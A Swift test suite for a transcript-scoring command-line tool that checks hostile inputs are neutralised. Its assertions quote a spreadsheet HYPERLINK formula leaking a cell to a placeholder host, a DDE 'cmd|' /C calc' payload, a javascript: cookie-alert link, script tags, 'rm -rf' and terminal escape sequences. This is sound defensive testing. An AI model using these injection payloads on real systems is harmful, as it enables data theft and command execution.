import Foundation
import Testing

/// What transcripts, labels, results and rubrics written by an attacker (or
/// by accident) can no longer do: drive the terminal, run a spreadsheet
/// formula, inject Markdown, shift label rows, be joined to the wrong call,
/// be counted twice, be scored with another language's rubric, or replace a
/// shipped rubric quietly.
@Suite("Hostile inputs, end to end")
struct HostileInputTests {
    static let hostile = "Tests/Fixtures/hostile/"

    /// Whether `text` holds a character a terminal acts on: a C0 control
    /// other than the line break, DEL, a C1 control, or a bidirectional override.
    static func drivesTerminal(_ text: String) -> Bool {
        text.replacingOccurrences(of: "\r\n", with: "\n").unicodeScalars.contains { scalar in
            switch scalar.value {
            case 0x0A: false
            case 0x00...0x1F, 0x7F...0x9F, 0x202A...0x202E, 0x2066...0x2069: true
            default: false
            }
        }
    }

    @Test(
        "Escape sequences in ids, headers, labels and turns never reach the terminal raw",
        arguments: [
            ["score", hostile + "escape-codes.txt", "--format", "table"],
            ["explain", hostile + "escape-codes.txt"],
            ["inspect", hostile + "escape-codes.txt", "--format", "table"],
            [
                "compare", "--rubric", "en-standard", "--rubric", "Tests/Fixtures/rubrics/checks.yaml",
                hostile + "escape-codes.txt", "--format", "table", "--any-language",
            ],
            ["calibrate", "--human", hostile + "escape-labels.csv", hostile + "escape-codes.txt", "--format", "table"],
            [
                "rubric", "suggest", "--human", hostile + "escape-labels.csv", hostile + "escape-codes.txt",
                "--rubric", "en-standard", "--min-support", "1",
            ],
            ["score", hostile + "escape-codes.txt", "--format", "csv"],
            ["score", hostile + "escape-codes.txt", "--format", "json"],
            ["explain", hostile + "escape-codes.txt", "--format", "markdown"],
        ])
    func terminal(arguments: [String]) throws {
        let result = try CLI.run(arguments)
        #expect(!Self.drivesTerminal(result.stdout), "stdout of \(arguments)")
        #expect(!Self.drivesTerminal(result.stderr), "stderr of \(arguments)")
        #expect(result.stdout.contains("␛") || result.stdout.contains("\\u001b"))
    }

    @Test("Diagnostics on standard error show control characters visibly")
    func diagnostics() throws {
        let result = try CLI.run(["inspect", "missing-\u{1B}]52;c;aGk=\u{1B}\\.txt", "--format", "json"])
        #expect(result.status == 1)
        #expect(result.stderr.contains("missing-␛]52;c;aGk=␛\\.txt"))
        #expect(!Self.drivesTerminal(result.stderr))
    }

    @Test("CSV: formulas in ids and agents are neutralised; metric columns have names of their own")
    func csv() throws {
        let result = try CLI.run(["score", Self.hostile + "formula.txt", "--format", "csv"])
        #expect(result.status == 0)
        let lines = result.stdout.components(separatedBy: "\r\n")
        let header = lines[0].components(separatedBy: ",")
        #expect(Set(header).count == header.count)
        #expect(header.contains("interruptions") && header.contains("metric_interruptions"))
        #expect(lines[1].hasPrefix("\"'=HYPERLINK(\"\"http://example.invalid/?leak=\"\"&A1,\"\"open\"\")\","))
        #expect(lines[1].contains(",'@SUM(1+1)*cmd|' /C calc'!A0,"))
        let agents = try CLI.run(["score", Self.hostile + "formula.txt", "--format", "csv", "--by", "agent"])
        #expect(agents.stdout.contains("\r\n'@SUM(1+1)"))
        #expect(agents.stdout.contains(",metric_timedCalls,"))
    }

    @Test("Markdown: HTML, links, code and table pipes from the transcript stay text")
    func markdown() throws {
        let result = try CLI.run(["explain", Self.hostile + "markdown.txt", "--format", "markdown"])
        #expect(result.status == 0)
        let output = result.stdout
        for raw in ["<script>", "<img", "<b>", "[Sam]", "[my receipt]", "**now**"] {
            #expect(!output.contains(raw), "\(raw) passed through")
        }
        #expect(!output.replacingOccurrences(of: "\\](", with: "").contains("]("))
        #expect(output.contains("&lt;script&gt;"))
        #expect(output.contains("\\`rm -rf\\`"))
        #expect(output.contains("\\[my receipt\\](javascript:alert(document.cookie))"))
        #expect(output.contains("\\| see"))
        // Every transcript row has its five cell borders, whatever the text held.
        let rows = output.components(separatedBy: "\n").filter { $0.hasPrefix("| ") && $0.contains(" | customer | ") }
        #expect(!rows.isEmpty)
        for row in rows {
            #expect(row.replacingOccurrences(of: "\\|", with: "").filter { $0 == "|" }.count == 5)
        }
    }

    @Test("Labels: one stray quote is reported at its line and no row after it is read")
    func strayQuote() throws {
        let result = try CLI.run([
            "calibrate", "--human", "Tests/Fixtures/labels/stray-quote.csv", "corpora/", "--format", "json",
        ])
        #expect(result.status == 1)
        #expect(result.stderr.contains("stray-quote.csv:3: error: unterminated quote starting on line 3"))
        let object = try JSONSerialization.jsonObject(with: result.stdoutData) as? [String: Any]
        #expect(object?["labelRows"] as? Int == 1)
    }

    @Test("Labels that are not UTF-8 are an error, not replacement characters")
    func latin1Labels() throws {
        let result = try CLI.run([
            "calibrate", "--human", "Tests/Fixtures/labels/latin1.csv", "corpora/", "--format", "json",
        ])
        #expect(result.status == 1)
        #expect(result.stderr.contains("latin1.csv:2: error: invalid UTF-8"))
        #expect(!result.stdout.contains("\u{FFFD}"))
    }

    @Test("Two calls with one id: both scored, the second under a unique id, with a warning")
    func duplicateIDs() throws {
        let result = try CLI.run(["score", Self.hostile + "dupes", "--format", "jsonl"])
        #expect(result.status == 0)
        let ids = try result.stdout.split(separator: "\n").map { line in
            try #require(try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])["id"] as? String
        }
        #expect(ids == ["call-001", "call-001#2"])
        #expect(
            result.stderr.contains(
                "dupes/b/call-001.txt:1: warning: call id 'call-001' is already the id of the call at "))
    }

    @Test("Calibration pairs no label with an id two calls have")
    func duplicateIDLabels() throws {
        let result = try CLI.run([
            "calibrate", "--human", Self.hostile + "dupes/labels.csv", Self.hostile + "dupes", "--format", "json",
        ])
        #expect(result.status == 1)
        #expect(result.stderr.contains("labels.csv:2: error: call 'call-001' names 2 calls read"))
        let object = try JSONSerialization.jsonObject(with: result.stdoutData) as? [String: Any]
        #expect(object?["labelledCalls"] as? Int == 1)
    }

    @Test("report: the same results twice are counted once, and reported")
    func reportTwice() throws {
        let folder = try Self.scratch()
        defer { try? FileManager.default.removeItem(at: folder) }
        let results = folder.appendingPathComponent("day.jsonl").path
        _ = try CLI.run(["score", "corpora/", "--format", "jsonl", "--output", results])
        let once = try CLI.run(["report", results, "--format", "json"])
        let twice = try CLI.run(["report", results, results, "--format", "json"])
        #expect(once.status == 0)
        #expect(twice.status == 1)
        #expect(twice.stderr.contains("day.jsonl:1: error: call '"))
        #expect(twice.stderr.contains("was already counted from \(results):1"))
        func calls(_ output: Data) throws -> Int {
            let object = try JSONSerialization.jsonObject(with: output) as? [String: Any]
            return (object?["agents"] as? [[String: Any]] ?? []).reduce(0) { $0 + ($1["calls"] as? Int ?? 0) }
        }
        #expect(try calls(twice.stdoutData) == calls(once.stdoutData))
    }

    @Test("report: scores out of range are refused with file and line", arguments: ["150", "-50", "1e308", "NaN"])
    func reportOutOfRange(score: String) throws {
        let folder = try Self.scratch()
        defer { try? FileManager.default.removeItem(at: folder) }
        let results = folder.appendingPathComponent("bad.jsonl")
        let scored = try CLI.run(["score", "corpora/en/billing-good.txt", "--format", "jsonl"])
        let line = try #require(scored.stdout.split(separator: "\n").first)
        let edited = line.replacingOccurrences(of: #""score":100,"#, with: "\"score\":\(score),")
        #expect(edited != String(line))
        try (String(line) + "\n" + edited + "\n").write(to: results, atomically: true, encoding: .utf8)
        let result = try CLI.run(["report", results.path, "--format", "json"])
        #expect(result.status == 1)
        #expect(result.stderr.contains("bad.jsonl:2: error: not a result of 'callqa score --format jsonl'"))
    }

    @Test("A rubric is never applied to another language silently, in score, compare and calibrate")
    func language() throws {
        let english = "corpora/en/billing-good.txt"
        let refused = try CLI.run(["score", english, "--rubric", "zh-standard", "--format", "json"])
        #expect(refused.status == 1)
        #expect(refused.stderr.contains("call en-billing-101 not scored: its language is en, and rubric zh-standard"))
        #expect(!refused.stdout.contains("\"score\":"))
        let forced = try CLI.run(["score", english, "--rubric", "zh-standard", "--format", "json", "--any-language"])
        #expect(forced.status == 0)
        let compared = try CLI.run([
            "compare", "--rubric", "zh-standard", "--rubric", "zh-standard", english, "--format", "json",
        ])
        #expect(compared.status == 1)
        #expect(compared.stderr.contains("call en-billing-101 not compared"))
        let calibrated = try CLI.run([
            "calibrate", "--human", "Tests/Fixtures/labels/corpora.csv", "corpora/", "--rubric", "zh-standard",
            "--format", "json",
        ])
        #expect(calibrated.stderr.contains("not scored: its language is en"))
    }

    @Test("A rubric in ./rubrics: announced when used, refused when it poses as an installed one")
    func workingDirectoryRubrics() throws {
        let folder = try Self.scratch()
        defer { try? FileManager.default.removeItem(at: folder) }
        let rubrics = folder.appendingPathComponent("rubrics")
        try FileManager.default.createDirectory(at: rubrics, withIntermediateDirectories: true)
        let shipped = try String(
            contentsOf: CLI.packageRoot.appendingPathComponent("rubrics/en-standard.yaml"), encoding: .utf8)
        let call = CLI.packageRoot.appendingPathComponent("corpora/en/billing-poor.txt").path
        let copy = rubrics.appendingPathComponent("en-standard.yaml")

        // The same content: it is the installed rubric, said nothing about.
        try shipped.write(to: copy, atomically: true, encoding: .utf8)
        let same = try CLI.run(["score", call, "--format", "json"], directory: folder)
        #expect(same.status == 0)
        #expect(!same.stderr.contains("working directory"))

        // The same id and version, other content: refused.
        let lenient = shipped.replacingOccurrences(of: "critical: true", with: "critical: false")
        #expect(lenient != shipped)
        try lenient.write(to: copy, atomically: true, encoding: .utf8)
        let posing = try CLI.run(["score", call, "--format", "json"], directory: folder)
        #expect(posing.status == 2)
        #expect(posing.stderr.contains("refused: it has the id and version of the installed rubric en-standard"))

        // A version of its own: used, and announced with its path and fingerprint.
        let own = lenient.replacingOccurrences(of: "version: 2.0.0", with: "version: 2.1.0")
        try own.write(to: copy, atomically: true, encoding: .utf8)
        let announced = try CLI.run(["score", call, "--format", "json"], directory: folder)
        #expect(announced.status == 0)
        #expect(announced.stderr.contains("using rubric en-standard 2.1.0 from the working directory: "))
        #expect(announced.stderr.contains("(sha256 "))

        // A YAML file that is no rubric is skipped with a warning.
        try "services:\n  web: {image: nginx}\n".write(
            to: rubrics.appendingPathComponent("compose.yaml"), atomically: true, encoding: .utf8)
        let skipped = try CLI.run(["score", call, "--format", "json"], directory: folder)
        #expect(skipped.status == 0)
        #expect(skipped.stderr.contains("compose.yaml: warning: not a rubric"))
    }

    @Test("rubric lint reports a rubric's use of the limits every rubric is held to")
    func lintLimits() throws {
        let result = try CLI.run(["rubric", "lint", "zh-standard"])
        #expect(result.status == 0)
        #expect(result.stdout.contains("within limits: "))
        #expect(result.stdout.contains(" of 20000 phrases, up to "))
    }

    static func scratch() throws -> URL {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent(
            "callqa-hostile-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        return folder
    }
}
